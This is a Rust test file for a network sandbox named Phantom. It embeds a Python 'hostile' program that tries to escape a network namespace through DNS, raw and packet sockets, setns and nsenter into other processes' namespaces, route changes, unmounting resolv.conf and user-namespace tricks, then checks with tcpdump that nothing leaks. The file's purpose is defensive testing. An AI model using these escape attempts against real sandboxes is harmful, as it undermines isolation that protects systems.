//! Nothing of a program leaves by another way than Phantom: every packet of a network namespace of our own is looked at.

use std::ffi::OsStr;
use std::fs;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context, Result, ensure};
use phantom_tests::{CLIENT, NODES, Network, SERVER, Server, Way, stdout};

/// A world with a way to everywhere, so that what leaks has somewhere to go, and is seen on `wan`.
const WORLD: &str = "
set -e
ip link set lo up
ip link add wan type veth peer name far
ip link set wan addrgenmode none
ip link set far addrgenmode none
ip link set wan up
ip link set far up
ip addr add 203.0.113.5/24 dev wan
ip -6 addr add 2001:db8::5/64 dev wan nodad
ip neigh add 203.0.113.1 lladdr 02:00:00:00:00:01 dev wan
ip -6 neigh add 2001:db8::1 lladdr 02:00:00:00:00:01 dev wan
ip route add default via 203.0.113.1
ip -6 route add default via 2001:db8::1
";

/// Moves this thread, and whatever it starts, into a network namespace of its own.
fn enter_a_world() -> Result<()> {
    // SAFETY: unshare(2) takes flags only; it concerns this thread's network and nothing else.
    let entered = unsafe { libc::unshare(libc::CLONE_NEWNET) };
    ensure!(entered == 0, "no network namespace (these tests want root): {}", std::io::Error::last_os_error());
    stdout(&Command::new("sh").args(["-c", WORLD]).output()?)?;
    Ok(())
}

/// Everything that a hostile program tries: packets of all kinds, names, and doors to the outer namespace.
const HOSTILE: &str = r#"
import array, ctypes, json, os, socket, struct, subprocess, sys
doors, abstract, control, port = sys.argv[1] == 'doors', sys.argv[2], sys.argv[3], int(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
leaks, tried = [], 0

def attempt(what, action):
    # action is to raise OSError, or to return what says that nothing was reached: None.
    global tried
    tried += 1
    try:
        got = action()
    except (OSError, subprocess.SubprocessError):
        return
    if got is not None:
        leaks.append([what, str(got)])

QUERY = b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'

def udp(family, address, text):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.sendto(text, address)
        reply = s.recv(4096)
        # The gate answers name questions itself: "not found".
        return None if reply[3] & 15 == 3 and reply[6:8] == b'\0\0' else reply

def tcp(family, address):
    with socket.socket(family) as s:
        s.settimeout(3)
        s.connect(address)
        return 'connected'

def ping(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(1)
        s.sendto(b'\x08\0\0\0\0\x01\0\x01' if family == socket.AF_INET else b'\x80\0\0\0\0\x01\0\x01', address)
        return s.recv(4096)

def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as s:
        return s.getsockname()

def command(*words):
    return None if subprocess.run(words, capture_output=True, timeout=10).returncode else words

def fastopen():
    with socket.socket() as s:
        s.settimeout(3)
        s.sendto(b'hello', 0x20000000, ('198.51.100.9', 80))
        return 'sent'

attempt('dns over udp', lambda: udp(socket.AF_INET, ('8.8.8.8', 53), QUERY))
attempt('dns over udp6', lambda: udp(socket.AF_INET6, ('2001:4860:4860::8888', 53), QUERY))
attempt('udp', lambda: udp(socket.AF_INET, ('198.51.100.9', 443), b'quic or not'))
attempt('udp6', lambda: udp(socket.AF_INET6, ('2001:db8:9::9', 443), b'quic or not'))
attempt('multicast', lambda: udp(socket.AF_INET, ('224.0.0.251', 5353), QUERY))
attempt('dns over tcp', lambda: tcp(socket.AF_INET, ('8.8.8.8', 53)))
attempt('tcp', lambda: tcp(socket.AF_INET, ('198.51.100.9', 80)))
attempt('tcp6', lambda: tcp(socket.AF_INET6, ('2001:db8:9::9', 80)))
attempt('a daemon on loopback', lambda: tcp(socket.AF_INET, ('127.10.0.1', port)))
attempt('fast open', fastopen)
for name in ('example.com', 'leak.test', 'router.local'):
    attempt('name ' + name, lambda: socket.getaddrinfo(name, 80))
for kind, what in ((socket.SOCK_DGRAM, 'ping'), (socket.SOCK_RAW, 'raw icmp')):
    attempt(what, lambda: ping(socket.AF_INET, kind, socket.IPPROTO_ICMP, ('8.8.8.8', 0)))
    attempt(what + '6', lambda: ping(socket.AF_INET6, kind, socket.IPPROTO_ICMPV6, ('2001:db8:9::9', 0)))
attempt('raw ip', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).sendto(
    bytes.fromhex('450000140000000040110000cb007105c6336409'), ('198.51.100.9', 0)))
attempt('packet socket', packet)
attempt('daemon socket', lambda: doors and (lambda s: s.connect(control) or 'connected')(socket.socket(socket.AF_UNIX)) or None)

if doors:
    def abstract_socket():
        with socket.socket(socket.AF_UNIX) as s:
            s.connect('\0' + abstract)
            return 'connected'
    attempt('abstract socket', abstract_socket)
    own = os.readlink('/proc/self/ns/net')
    def setns(path):
        fd = os.open(path, os.O_RDONLY)
        try:
            if libc.setns(fd, 0) != 0:
                raise OSError(ctypes.get_errno(), 'setns')
            return path if os.readlink('/proc/self/ns/net') != own else None
        finally:
            os.close(fd)
    pids = [pid for pid in os.listdir('/proc') if pid.isdigit()]
    for pid in pids:
        for space in ('net', 'user'):
            attempt('setns', lambda: setns(f'/proc/{pid}/ns/{space}'))
    def tun():
        return os.open('/dev/net/tun', os.O_RDWR) and command('ip', 'tuntap', 'add', 'mode', 'tun')
    attempt('tun', tun)
    attempt('nsenter', lambda: command('nsenter', '-t', '1', '-n', 'true'))
    attempt('route', lambda: command('ip', 'route', 'replace', 'default', 'dev', 'lo'))
    attempt('address', lambda: command('ip', 'addr', 'add', '203.0.113.77/24', 'dev', 'lo'))
    attempt('mounts undone', lambda: command('umount', '/etc/resolv.conf'))
    # In a user namespace of its own it is root again: of nothing that matters.
    if libc.unshare(0x10000000) == 0:
        for pid in pids:
            attempt('setns as root of a user namespace', lambda: setns(f'/proc/{pid}/ns/net'))
        attempt('raw as root of a user namespace', lambda: ping(socket.AF_INET, socket.SOCK_RAW, 1, ('8.8.8.8', 0)))
        attempt('packet as root of a user namespace', packet)
print(json.dumps({'leaks': leaks, 'tried': tried}))
"#;

/// A capture of all interfaces of this namespace.
struct Capture {
    tcpdump: Server,
    file: String,
}

impl Capture {
    fn start(folder: &Path, name: &str) -> Result<Self> {
        let file = folder.join(name).to_str().context("path")?.to_owned();
        let mut command = Command::new("sh");
        // -Z root: it writes the file as who we are. -U: packet by packet.
        command.args(["-c", &format!("exec tcpdump -Z root -i any -n -U -w {file} 2>&1")]);
        Ok(Self { tcpdump: Server::start_until(command, "listening on")?, file })
    }

    /// Ends it; the packets that a filter lets through, one line each.
    fn end(self, filter: &str) -> Result<Vec<String>> {
        drop(self.tcpdump);
        let output = Command::new("tcpdump").args(["-n", "-r", &self.file, filter]).stderr(Stdio::null()).output()?;
        Ok(stdout(&output)?.lines().map(str::to_owned).collect())
    }
}

#[test]
fn hostile_programs_reach_nothing_but_phantom() -> Result<()> {
    enter_a_world()?;
    let network = Network::up(NODES)?;
    let folder = network.folder("leaks")?;
    let port = network.nodes[0].listen.rsplit_once(':').context("no port")?.1.to_owned();
    let abstract_name = format!("phantom-leaks-{}", std::process::id());
    let _abstract = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&abstract_name)?)?;
    let www = folder.to_str().context("path")?;
    fs::write(folder.join("file"), "here\n")?;
    let http = ["python3", "-u", "-m", "http.server", "80", "--directory", www];
    let (_server, name) = network.serve(Way::Namespace, "www", &http, "Serving")?;
    let hostile = |doors, node: usize| -> Result<[String; 7]> {
        let control = network.nodes[node].socket.to_str().context("path")?;
        Ok(["python3", "-c", HOSTILE, doors, &abstract_name, control, &port].map(str::to_owned))
    };

    // The daemons' links, and the kernel's own neighbour talk, are what may be seen.
    let allowed = format!("(tcp port {port} and net 127.0.0.0/8) or (icmp6 and dst net ff02::/16)");
    let capture = Capture::start(&folder, "quiet")?;
    for (way, doors) in [(Way::Namespace, "doors"), (Way::Preload, "no doors")] {
        for node in [CLIENT, SERVER] {
            let program = hostile(doors, node)?;
            let said = stdout(&network.program(node, way, None, &program.each_ref().map(String::as_str)).output()?)?;
            let said: serde_json::Value = serde_json::from_str(&said)?;
            ensure!(said["leaks"].as_array().is_some_and(Vec::is_empty), "{way:?}: {said}");
            ensure!(said["tried"].as_u64() > Some(15), "{said}");
        }
    }
    inherited_descriptors_are_closed(&network)?;
    // Meanwhile Phantom works as ever.
    ensure!(network.run(Way::Namespace, &["curl", "-sS", "--fail", &format!("http://{name}/file")])? == "here\n");
    let seen = capture.end(&format!("not ({allowed})"))?;
    ensure!(seen.is_empty(), "{} packets left:\n{}", seen.len(), seen.join("\n"));

    // The capture sees what leaves: the same program without phantom-run.
    let capture = Capture::start(&folder, "loud")?;
    let mut outside = Command::new("python3");
    // Nobody answers there: one short question each.
    outside.args(&hostile("no doors", CLIENT)?[1..]).env("RES_OPTIONS", "timeout:1 attempts:1").output()?;
    let seen = capture.end(&format!("not ({allowed})"))?.join("\n");
    for witness in ["8.8.8.8.53", "198.51.100.9.443", "198.51.100.9.80", "2001:db8:9::9.80", "ICMP echo request"] {
        ensure!(seen.contains(witness), "the capture missed {witness}:\n{seen}");
    }
    Ok(())
}

/// A socket of the outer network that is open already when phantom-run starts.
fn inherited_descriptors_are_closed(network: &Network) -> Result<()> {
    let inside = network.program(CLIENT, Way::Namespace, None, &["bash", "-c", "echo leak >&7"]);
    let words: Vec<&OsStr> = [inside.get_program()].into_iter().chain(inside.get_args()).collect();
    let open = "exec 7<>/dev/udp/198.51.100.9/5000; exec \"$@\"";
    let output = Command::new("bash").args(["-c", open, "bash"]).args(words).output()?;
    ensure!(!output.status.success(), "the descriptor was there: {output:?}");
    ensure!(String::from_utf8_lossy(&output.stderr).contains("7: Bad file descriptor"), "{output:?}");
    Ok(())
}
